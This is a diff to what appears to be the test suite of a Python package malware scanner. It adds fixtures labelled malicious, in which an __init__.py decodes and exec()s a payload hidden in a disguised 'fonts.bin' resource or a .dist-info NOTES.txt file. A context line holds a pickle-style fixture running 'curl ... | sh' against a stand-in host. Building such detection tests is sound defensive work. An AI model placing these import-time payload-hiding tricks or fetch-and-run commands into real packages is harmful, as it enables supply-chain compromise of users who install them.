@@ -83,6 +83,20 @@ CASES = [
         "build_cfg.json": ('{"py/reduce": [{"py/function": "os.system"}, '
                            '{"py/tuple": ["curl -s https://x.invalid/s | sh"]}]}\n'),
     }, "malicious", ("PV251",)),
+    Case("payload in package data read through importlib.resources", "resbytes", {
+        "resbytes/__init__.py": (
+            "import base64, zlib\nfrom importlib import resources\n"
+            "exec(zlib.decompress(base64.b64decode(resources.files(__package__)"
+            ".joinpath('fonts.bin').read_bytes())))\n"),
+        "resbytes/fonts.bin": ZB64,
+    }, "malicious", ("PV245",), kind="wheel"),
+    Case("payload in a .dist-info file read through importlib.metadata", "distinfo", {
+        "distinfo/__init__.py": (
+            "import base64, zlib\nfrom importlib import metadata\n"
+            "_t = metadata.distribution('distinfo').read_text('NOTES.txt')\n"
+            "exec(zlib.decompress(base64.b64decode(_t)))\n"),
+        "distinfo-1.0.dist-info/NOTES.txt": ZB64,
+    }, "malicious", ("PV201",), kind="wheel"),
     # benign look-alikes
     Case("template engine compiling its own generated source", "tinytpl", _init(
         "tinytpl",
